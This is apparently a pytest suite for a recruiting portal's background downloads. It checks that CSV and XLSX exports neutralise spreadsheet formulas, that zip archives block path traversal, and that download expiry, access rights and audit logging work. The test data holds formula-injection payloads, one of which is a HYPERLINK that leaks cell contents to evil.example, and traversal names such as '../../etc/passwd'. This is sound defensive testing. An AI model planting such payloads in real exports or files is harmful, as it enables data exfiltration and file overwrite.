"""What is made in the background: sheets that run nothing, an archive that any system unpacks, a day to fetch it."""

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import timedelta
from pathlib import PurePosixPath

import openpyxl
import pytest
from sqlalchemy import select, update

from models.applications import Application, Download
from models.base import db
from models.files import StoredFile
from models.organizations import Organization
from models.people import Account
from models.records import AuditEvent
from models.states import DownloadKind, DownloadState
from portal import sheets
from portal.actors import Actor
from portal.database import begin_write
from portal.errors import NotFound, Refused
from portal.files import reading
from portal.recruiting import downloads
from tests.make import Maker
from tests.recruiting.builders import applied, draft, posting, submit, talent

SECOND = timedelta(seconds=1)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+81-3", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\x00=1"]


def asked(kind: DownloadKind, target: int, *, actor: Actor, make: Maker) -> int:
    begin_write()
    key = downloads.request(kind, target, actor=actor, now=make.now).id
    db.session.commit()
    return key


def made(kind: DownloadKind, target: int, *, actor: Actor, make: Maker) -> bytes:
    key = asked(kind, target, actor=actor, make=make)
    assert downloads.work(make.now) == 1
    return content(key)


def content(key: int) -> bytes:
    stored = db.session.get_one(Download, key).file
    assert stored is not None
    with reading.open_file(stored) as file:
        return file.read()


def row(key: int) -> Download:
    db.session.rollback()
    return db.session.get_one(Download, key, populate_existing=True)


# ---- sheets


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_of_a_sheet_is_a_formula(formula: str) -> None:
    head, table = [formula, "氏名"], [[formula, "青木"], ["=", None]]
    texts, book = io.BytesIO(), io.BytesIO()
    assert sheets.write_csv(texts, head, table) == sheets.write_xlsx(book, "応募一覧", head, table) == 2
    read = list(csv.reader(io.StringIO(texts.getvalue().decode("utf-8-sig"), newline="")))
    kept = "'" + formula.replace("\0", "")
    assert read == [[kept, "氏名"], [kept, "青木"], ["'=", ""]]
    sheet = openpyxl.load_workbook(io.BytesIO(book.getvalue())).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}, "texts alone"
    assert all(str(cell.value).startswith("'") for cell in cells if cell.value not in ("氏名", "青木"))


def test_what_applicants_are_called_runs_nothing(make: Maker) -> None:
    """From the profile to the sheet: every column that somebody may write into."""
    owner = make.member()
    documents = [{"name": "=1+1", "required": False, "note": ""}]
    version = posting(make, actor=owner, documents=documents)
    someone = talent(make, '=HYPERLINK("http://evil.example")', name_kana="+1")
    key = draft(version, someone, now=make.now, files=False).id
    submit(db.session.get_one(Application, key), someone, now=make.now)
    begin_write()
    db.session.execute(update(Application).where(Application.id == key).values(note="@SUM(A1)", email="-1@example.jp"))
    db.session.commit()
    text = made(DownloadKind.csv, version.entry_id, actor=owner, make=make).decode("utf-8-sig")
    head, line = csv.reader(io.StringIO(text, newline=""))
    assert head[-1] == "'=1+1"
    assert line[1:4] == ['\'=HYPERLINK("http://evil.example")', "'+1", "'-1@example.jp"]
    assert "'@SUM(A1)" in line
    begin_write()
    book = openpyxl.load_workbook(io.BytesIO(made(DownloadKind.xlsx, version.entry_id, actor=owner, make=make))).active
    assert book is not None
    assert {cell.data_type for cells in book.iter_rows() for cell in cells} <= {"s", "n"}


# ---- archives

NAMES = ["../../etc/passwd", "C:\\boot", "con", "書類:1", "書類1", "Report", "REPORT", "..", "語学力 (2)"]


def test_an_archive_unpacks_on_every_system(make: Maker, folder_store) -> None:
    """No path of it leads elsewhere, and no two are one where capitals, colons or dots do not count."""
    owner = make.member()
    version = posting(make, actor=owner, documents=[{"name": name, "required": True, "note": ""} for name in NAMES])
    applied(version, talent(make, "../青木 C:"), now=make.now)
    with zipfile.ZipFile(io.BytesIO(made(DownloadKind.posting, version.entry_id, actor=owner, make=make))) as archive:
        paths = archive.namelist()
        assert archive.testzip() is None
    assert len(paths) == len(NAMES) + 1
    assert len({path.casefold() for path in paths}) == len(paths)
    for path in paths:
        parts = PurePosixPath(path).parts
        assert len(parts) == (1 if path == "index.xlsx" else 2)
        assert not set(path) & set('\\:*?"<>|\0')
        assert not any(part.startswith((".", " ")) or part.endswith((" ", ".")) for part in parts)


# ---- a day to fetch it, and for whom


@pytest.fixture
def case(make: Maker) -> tuple[Actor, int]:
    owner = make.member()
    version = posting(make, actor=owner, documents=[])
    applied(version, talent(make), now=make.now)
    return owner, version.entry_id


def test_it_can_be_fetched_for_a_day_to_the_second(make: Maker, case: tuple[Actor, int], folder_store) -> None:
    owner, entry_id = case
    key = asked(DownloadKind.csv, entry_id, actor=owner, make=make)
    with pytest.raises(NotFound):
        downloads.fetch(key, actor=owner, now=make.now)  # not made yet
    assert downloads.work(make.now) == 1
    end = make.now + timedelta(hours=24)
    begin_write()
    assert downloads.fetch(key, actor=owner, now=end - SECOND).file is not None
    with pytest.raises(Refused):
        downloads.fetch(key, actor=owner, now=end)
    db.session.rollback()
    file_id = row(key).file_id
    assert downloads.expire(end - SECOND) == 0
    assert downloads.expire(end) == 1
    assert (row(key).state, row(key).file_id) == (DownloadState.expired, None)
    assert db.session.get_one(StoredFile, file_id).dropped_at == end


def test_only_who_asked_fetches_it_and_every_time_is_on_record(make: Maker, case: tuple[Actor, int]) -> None:
    owner, entry_id = case
    colleague = make.member(db.session.get_one(Organization, owner.organization_id))
    key = asked(DownloadKind.csv, entry_id, actor=owner, make=make)
    downloads.work(make.now)
    begin_write()
    with pytest.raises(NotFound):
        downloads.fetch(key, actor=colleague, now=make.now)
    for _ in range(2):
        downloads.fetch(key, actor=owner, now=make.now)
    db.session.commit()
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.subject == "download").order_by(AuditEvent.id)
    ).all()
    assert [event.action for event in events] == ["download.request", "download.fetch", "download.fetch"]
    assert {(event.subject_id, event.actor_id, event.organization_id) for event in events} == {
        (key, owner.account_id, owner.organization_id)
    }
    assert events[0].details == {"kind": "csv", "target": entry_id}


def suspended(account: Account, make: Maker) -> None:
    account.suspended_at = make.now


def moved(account: Account, make: Maker) -> None:
    account.organization_id = make.organization().id


@pytest.mark.parametrize("loses", [suspended, moved])
def test_who_lost_the_right_meanwhile_gets_nothing(
    make: Maker, case: tuple[Actor, int], loses: Callable[[Account, Maker], None]
) -> None:
    owner, entry_id = case
    key = asked(DownloadKind.csv, entry_id, actor=owner, make=make)
    account = db.session.get_one(Account, owner.account_id)
    loses(account, make)
    db.session.commit()
    assert downloads.work(make.now) == 1
    assert (row(key).state, row(key).file_id) == (DownloadState.failed, None)
    assert "権限" in row(key).error


def test_a_worker_that_died_leaves_it_to_the_next_and_says_nothing_more(make: Maker, case: tuple[Actor, int]) -> None:
    owner, entry_id = case
    key = asked(DownloadKind.csv, entry_id, actor=owner, make=make)
    first = downloads._claim(make.now)
    assert first is not None
    lost = first.owner
    assert downloads.work(make.now) == 0, "it is taken"
    assert downloads.work(make.now + downloads.LEASE) == 1
    assert row(key).state is DownloadState.ready
    file_id = row(key).file_id
    begin_write()
    assert not downloads._close(key, lost, state=DownloadState.failed, error="late")
    assert (row(key).state, row(key).file_id) == (DownloadState.ready, file_id)


def test_a_damaged_document_is_said_in_words_and_no_half_archive_is_kept(make: Maker, folder_store) -> None:
    owner = make.member()
    version = posting(make, actor=owner)
    application = applied(version, talent(make), now=make.now)
    document = application.documents[0]
    assert document.file is not None
    folder_store.delete(document.file.key)
    key = asked(DownloadKind.person, application.id, actor=owner, make=make)
    files = len(list(folder_store.keys()))
    assert downloads.work(make.now) == 1
    assert (row(key).state, row(key).file_id) == (DownloadState.failed, None)
    assert "ファイルが壊れている" in row(key).error
    assert len(list(folder_store.keys())) == files
